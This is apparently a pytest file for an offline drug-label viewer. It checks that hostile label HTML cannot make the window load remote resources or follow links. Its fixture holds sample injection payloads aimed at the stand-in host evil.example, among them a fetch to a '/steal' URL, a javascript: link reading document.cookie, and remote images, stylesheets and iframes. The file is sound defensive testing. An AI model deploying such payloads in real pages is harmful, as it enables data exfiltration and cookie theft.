"""Offline means offline: hostile label text cannot make the window fetch or follow anything."""

from __future__ import annotations

import socket
import sys
from datetime import date

import pytest
from PySide6.QtCore import QUrl

from tests.conftest import NetworkAccessError
from viewer.monograph import Monograph, Provenance, Section, SectionKind
from viewer.ui.monograph_view import MonographView, SafeTextBrowser

HOSTILE_HTML = (
    '<p>Take with food.<img src="http://evil.example/pixel.png" width="1"></p>'
    "<script>fetch('http://evil.example/steal')</script>"
    '<link rel="stylesheet" href="http://evil.example/style.css">'
    '<style>@import url("http://evil.example/more.css"); p {background: url(http://evil.example/b.png)}</style>'
    '<a href="javascript:alert(document.cookie)">Read more</a> '
    '<a href="http://evil.example/page">Full label</a>'
    '<iframe src="http://evil.example/frame"></iframe>'
    '<object data="http://evil.example/x.swf"></object>'
    '<p style="background-image:url(http://evil.example/s.png)">Styled</p>'
)


def hostile_monograph() -> Monograph:
    """Test data only: a made-up label carrying every trick, never shipped."""
    provenance = Provenance(
        source="spl",
        source_title="Test label",
        set_id="test-set",
        version="1",
        effective_date=date(2026, 1, 1),
    )
    sections = tuple(
        Section(kind, kind.label, HOSTILE_HTML, "Take with food.", provenance)
        for kind in (SectionKind.MECHANISM, SectionKind.INDICATIONS, SectionKind.WARNINGS)
    )
    return Monograph(
        id=1,
        slug="hostile",
        title='Hostile <b>"Drug"</b>',
        kind="brand",
        brands=("Hostile",),
        ingredients=(),
        sections=sections,
        forms=(),
        review=None,
        sources=("spl",),
    )


def test_hostile_label_renders_its_text_but_nothing_remote(qtbot) -> None:
    view = MonographView()
    qtbot.addWidget(view)
    view.show()
    view.show_monograph(hostile_monograph(), {}, date(2026, 11, 27))
    qtbot.waitExposed(view)
    rendered = view.toHtml().lower()
    assert "evil.example/pixel" not in rendered
    assert "<img" not in rendered
    assert "javascript" not in rendered
    assert "fetch(" not in rendered
    assert "more.css" not in rendered and "style.css" not in rendered
    text = view.plain_text()
    assert "Take with food." in text
    assert "Read more" in text  # link text stays readable
    assert "Full label [http://evil.example/page]" in text  # the address shown, as text
    assert 'Hostile <b>"Drug"</b>' in text  # a title is text, never markup
    assert view.refused_resources == []  # nothing was even asked for


def test_safe_browser_refuses_resources_and_links_even_in_raw_html(qtbot) -> None:
    browser = SafeTextBrowser()
    qtbot.addWidget(browser)
    browser.setHtml(
        '<p>x<img src="http://evil.example/raw.png"></p><a href="http://evil.example/">go</a>'
    )
    browser.show()
    qtbot.waitExposed(browser)
    assert any("evil.example/raw.png" in url for url in browser.refused_resources)
    browser.setSource(QUrl("http://evil.example/page"))
    assert "http://evil.example/page" in browser.refused_resources
    assert browser.openLinks() is False and browser.openExternalLinks() is False


def test_the_window_never_loads_qt_network(window) -> None:  # type: ignore[no-untyped-def]
    window.search_field.setText("avonex")
    window.run_search()
    window.open_current()
    assert "PySide6.QtNetwork" not in sys.modules


def test_the_network_guard_catches_a_connection(no_network: list[str]) -> None:
    with pytest.raises(NetworkAccessError), socket.socket() as sock:
        sock.connect(("192.0.2.1", 80))
    with pytest.raises(NetworkAccessError):
        socket.getaddrinfo("example.org", 80)
    assert len(no_network) == 2
    no_network.clear()  # expected here; any other test that connects fails at teardown
